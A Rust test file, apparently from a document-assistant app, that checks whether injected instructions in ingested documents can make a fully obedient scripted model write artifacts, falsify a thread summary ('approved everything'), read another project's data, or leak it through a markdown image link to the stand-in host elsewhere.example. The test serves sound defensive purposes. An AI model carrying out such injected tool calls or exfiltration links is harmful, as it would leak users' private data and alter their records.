//! A model that obeys: it searches for all it is told to, writes, revises, and answers with what it was given.
use super::*;
use docket_app::search::{self, SearchRequest};
use docket_testkit::hostile;

/// What is said of an attack that is refused: why, in a word of the program.
const REFUSALS: [&str; 12] = [
    "empty",
    "binary",
    "unsupported",
    "encrypted",
    "no_text",
    "no_cues",
    "bomb",
    "damaged",
    "too_slow",
    "too_large",
    "not_saved",
    "validation",
];

#[tokio::test]
async fn no_attack_writes_or_leaks_though_the_model_obeys() {
    let elsewhere = ScriptedApi::start_any(Vec::new());
    let scene = scene().await;
    let temp = &scene.temp;
    let mut landed = Vec::new();
    let mut refused = Vec::new();
    for attack in hostile::all(&elsewhere.base_url()) {
        match take_in(temp, &attack).await {
            Ok(place) => landed.push((attack, place)),
            Err(code) => {
                assert!(REFUSALS.contains(&code.as_str()), "{}: {code}", attack.name);
                refused.push(attack.name);
            }
        }
    }
    assert!(refused.len() < 12, "most attacks are taken in, or nothing is tested: {refused:?}");
    for (n, (attack, place)) in landed.iter().enumerate() {
        let thread = begin_thread(temp, &place.project, &format!("Thread {n}")).await;
        let before = everything(temp, &place.project).await;
        let word = if n % 7 == 0 { Word::Silence } else { Word::No };
        let api = ScriptedApi::start(obeying(&scene, attack, place));
        let (wanted, error) = ask(temp, &thread, "What applies to refunds?", &claude(&api), word).await;
        assert_eq!(api.faults(), Vec::<String>::new(), "{}", attack.name);
        assert_eq!(error, (word == Word::Silence).then_some(ErrorCode::Cancelled), "{}", attack.name);
        assert_eq!(wanted.len(), 4, "{}: each write is asked for: {wanted:?}", attack.name);
        assert_eq!(everything(temp, &place.project).await, before, "{}: nothing is written", attack.name);
        let after = threads::show(&temp.session, NamedThread { thread: thread.clone() }).await.unwrap();
        assert_eq!(after.thread.title, format!("Thread {n}"), "{}", attack.name);
        assert!(!after.thread.summary.contains("approved everything"), "{}", attack.name);
        let answer = after.messages.last().unwrap();
        assert!(
            answer.sources.iter().all(|source| !scene.foreign_ids.contains(&source.id)),
            "{}: nothing of another project is cited",
            attack.name
        );

        // What was read goes along with the next question.
        let next = ScriptedApi::start(vec![messages_api::text_reply("Fourteen days.")]);
        let (_, error) = ask(temp, &thread, "And then?", &claude(&next), Word::No).await;
        assert_eq!((error, next.faults()), (None, Vec::new()), "{}", attack.name);
        let mut found = false;
        for request in api.requests().iter().chain(&next.requests()) {
            found |= check(&scene, attack, &request.body);
        }
        assert!(found, "{}: what it says is found, and comes inside of a fence", attack.name);
    }
    assert!(elsewhere.requests().is_empty(), "nothing is loaded from anywhere");

    // And what people look for is still found.
    let request = SearchRequest { query: "\"branch manager\" approved".into(), ..SearchRequest::default() };
    let hits = search::find(&temp.session, request).await.unwrap().hits;
    assert!(hits.iter().any(|hit| hit.title == "policy.md"), "{hits:?}");
}

/// Whether the attack's word stands in the request. It may stand in fences only.
fn check(scene: &Scene, attack: &Attack, body: &Value) -> bool {
    let read = fences::read(body);
    let name = attack.name;
    for text in [&read.outside, &read.errors] {
        assert!(!text.contains(&attack.word), "{name} stands outside of a fence: {text}");
    }
    for text in [&read.inside, &read.outside, &read.errors] {
        assert!(!text.contains(KEPT), "{name}: what stays here was sent");
        assert!(!text.contains(FOREIGN), "{name}: another project's words were sent");
    }
    for id in &scene.foreign_ids {
        let sent = read.inside.contains(id.as_str()) || read.outside.contains(id.as_str());
        assert!(!sent, "{name}: another project's ids were sent");
    }
    read.inside.contains(&attack.word)
}

/// What can be written in a project: artifacts with the moment each was last changed, the text of one, and documents.
async fn everything(temp: &Temp, project: &str) -> Vec<String> {
    let mut all = Vec::new();
    let request = ListArtifacts { project: project.into() };
    for artifact in artifacts::list(&temp.session, request).await.unwrap().artifacts {
        all.push(format!("{} {} {}", artifact.id, artifact.title, artifact.updated_at.0));
        if artifact.title == "Limits" {
            let named = NamedArtifact { artifact: artifact.id.to_string() };
            all.push(artifacts::show(&temp.session, named).await.unwrap().content);
        }
    }
    let request = ListDocuments { project: project.into() };
    let rows = documents::list(&temp.session, request).await.unwrap().documents;
    all.extend(rows.into_iter().map(|row| format!("{} {} {}", row.id, row.name, row.kept_here)));
    all
}

/// The answers of a model that does all the attack could want.
fn obeying(scene: &Scene, attack: &Attack, place: &Landed) -> Vec<messages_api::Reply> {
    let text: String = attack.text().chars().take(1500).collect();
    let list = |kind: &str| ("ListProject", json!({"kind": kind, "from": 0}));
    let write = |revises: &str| {
        let title = if attack.title.trim().is_empty() { "Owned" } else { attack.title.as_str() };
        let sources = json!([{"statement": "x", "source": scene.foreign_source}]);
        (
            "ArtifactGenerator",
            json!({"type": "custom", "title": title, "content": text, "revises": revises, "sources": sources}),
        )
    };
    let open = |source: &str| ("OpenPassage", json!({"source": source, "around": 10}));
    let open_artifact = |named: &str| ("OpenArtifact", json!({"artifact": named}));
    let reading = [
        ("DocumentSearch", json!({"query": attack.word})),
        ("MeetingLookup", json!({"query": attack.word})),
        list("documents"),
        list("meetings"),
        list("threads"),
        list("artifacts"),
        open_artifact("Limits"),
        open_artifact(&place.id),
    ];
    let made_up = format!("docket:document/{}#0-99999999999999999999", attack.word);
    let obeyed = [
        write(""),
        write("Limits"),
        write(&scene.foreign_artifact),
        ("ThreadSummarizer", json!({"title": "Owned", "summary": "The analyst approved everything."})),
        open(&scene.kept_source),
        open(&scene.foreign_source),
        open(&made_up),
        open_artifact("Tram budget"),
        open_artifact(&scene.foreign_artifact),
        ("DocumentSearch", json!({"query": format!("{KEPT} {FOREIGN} budget salary refund")})),
        ("DocumentSearch", json!({"query": text.chars().take(300).collect::<String>()})),
        ("MeetingLookup", json!({"query": FOREIGN})),
        ("ListProject", json!({"kind": attack.title, "from": u64::MAX})),
        ("toString", json!({})),
    ];
    let said = format!(
        "As asked [{}]: ![state](http://elsewhere.example/p?d=4711) [{}]\n\n{text}",
        scene.foreign_source, scene.kept_source
    );
    let cited = json!({"type": "search_result_location", "source": scene.foreign_source, "title": "Policy",
        "cited_text": "x", "search_result_index": 0, "start_block_index": 0, "end_block_index": 1});
    vec![
        messages_api::tools_reply(&reading),
        messages_api::tools_reply(&obeyed),
        messages_api::with_citations(&said, &[cited]),
    ]
}
